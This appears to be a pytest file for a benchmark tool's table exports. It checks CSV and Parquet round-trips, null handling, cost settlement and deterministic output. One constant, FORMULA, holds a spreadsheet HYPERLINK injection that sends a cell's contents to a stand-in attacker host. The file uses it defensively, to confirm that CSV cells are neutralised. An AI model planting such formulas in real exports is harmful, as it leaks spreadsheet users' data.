"""The exported tables: the ledger's values, typed, in a fixed order, and harmless in a spreadsheet."""

import csv
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq

from local_bench.report.exports import write_exports
from local_bench.runs.rundir import RunDir
from local_bench.runs.settlement import books

MakeRun = Callable[..., Path]
NAMES = ("candidates", "verdicts", "scores", "settlement", "costs")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def export(path: Path) -> list[Path]:
    with RunDir.open(path) as run:
        return write_exports(run)


def parquet(path: Path, name: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = pq.read_table(path / "exports" / f"{name}.parquet").to_pylist()
    return rows


def csv_rows(path: Path, name: str) -> list[dict[str, str]]:
    with (path / "exports" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_every_table_is_written_twice(make_run: MakeRun) -> None:
    path = make_run()
    written = [path / "exports" / f"{name}.{ending}" for name in NAMES for ending in ("csv", "parquet")]
    assert export(path) == written
    assert sorted((path / "exports").iterdir()) == sorted(written)


def test_the_ledgers_rows_come_back(make_run: MakeRun) -> None:
    path = make_run(no_source=True)
    export(path)
    keys = {"candidates": "work_id", "verdicts": "work_id, rubric, point", "scores": "work_id, name"}
    with RunDir.open(path) as run:
        for name, key in keys.items():
            kept = [dict(row) for row in run.ledger.rows(f"SELECT * FROM {name} ORDER BY {key}")]
            read = parquet(path, name)
            assert [{k: row[k] for k in kept[0] if k != "position"} for row in read] == [
                {k: v for k, v in row.items() if k != "position"} for row in kept
            ]


def test_unscored_is_null_beside_its_reason(make_run: MakeRun) -> None:
    path = make_run()
    export(path)
    [row] = [r for r in parquet(path, "scores") if r["unscored"]]
    assert row["value"] is None
    assert row["applies"]
    assert row["unscored"].startswith("the answer was cut off")
    assert all(r["value"] is None and not r["applies"] for r in parquet(path, "scores") if r["name"] == "veq_text")
    [row] = [r for r in parquet(path, "candidates") if r["decision_unscored"]]
    assert row["accepted"] is None
    [cell] = [r for r in csv_rows(path, "scores") if r["unscored"]]
    assert cell["value"] == ""


def test_settlement_and_costs_are_the_books(make_run: MakeRun) -> None:
    path = make_run()
    export(path)
    with RunDir.open(path) as run:
        money = books(run.ledger, run.config.settlement)
    rows = {(r["model"], r["scope"], r["category"]): r for r in parquet(path, "settlement")}
    assert len(rows) == 2 * 3
    for s in money.settlements:
        row = rows[s.model, "run", "all"]
        assert row["revenue_micro_usd"] == s.total.revenue_micro_usd
        assert row["revenue_usd"] == Decimal(s.total.revenue_micro_usd) / 1_000_000
        assert row["cost_micro_usd"] == s.cost_micro_usd
        assert row["profit_micro_usd"] == s.profit_micro_usd
        assert row["coverage"] == s.total.coverage
        parts = [r for r in rows.values() if r["model"] == s.model and r["scope"] == "category"]
        assert sum(r["revenue_micro_usd"] for r in parts) == s.total.revenue_micro_usd
        assert all(r["cost_usd"] is None and r["cost_unscored"] for r in parts)
    costs = parquet(path, "costs")
    assert sum(r["cost_micro_usd"] for r in costs) == money.cost_micro_usd
    assert [r["model"] for r in costs] == ["alpha", "alpha", "beta", None, None]
    assert next(r["cost_usd"] for r in csv_rows(path, "costs")) == "0.001000"


def test_without_a_price_costs_are_null_with_the_reason(make_run: MakeRun) -> None:
    path = make_run(price=None)
    with RunDir.open(path) as run:
        run.ledger.write("UPDATE sessions SET device = 'an unheard-of device'")
    export(path)
    for row in [*parquet(path, "costs"), *parquet(path, "settlement")]:
        assert row["cost_micro_usd"] is None
        assert row["cost_usd"] is None
        assert row["cost_unscored"]


def test_no_cell_of_a_csv_is_a_formula(make_run: MakeRun) -> None:
    path = make_run()
    export(path)
    cells = [(name, k, cell) for name in NAMES for row in csv_rows(path, name) for k, cell in row.items()]
    numbers = {"profit_micro_usd", "profit_usd"}
    assert [c for c in cells if c[2].startswith(("=", "+", "-", "@", "\t", "\r")) and c[1] not in numbers] == []
    assert any(c == ("candidates", "title", "'" + FORMULA) for c in cells)
    assert any(c == ("verdicts", "raw", "'-1+" + FORMULA) for c in cells)
    assert any(c[:2] == ("settlement", "profit_micro_usd") and c[2] == "-3500" for c in cells)  # a number stays one
    assert {r["title"] for r in parquet(path, "candidates")} >= {FORMULA}  # and Parquet holds the words as they came


def test_the_same_ledger_gives_the_same_files(make_run: MakeRun) -> None:
    path = make_run()
    first = {p: p.read_bytes() for p in export(path)}
    assert {p: p.read_bytes() for p in export(path)} == first
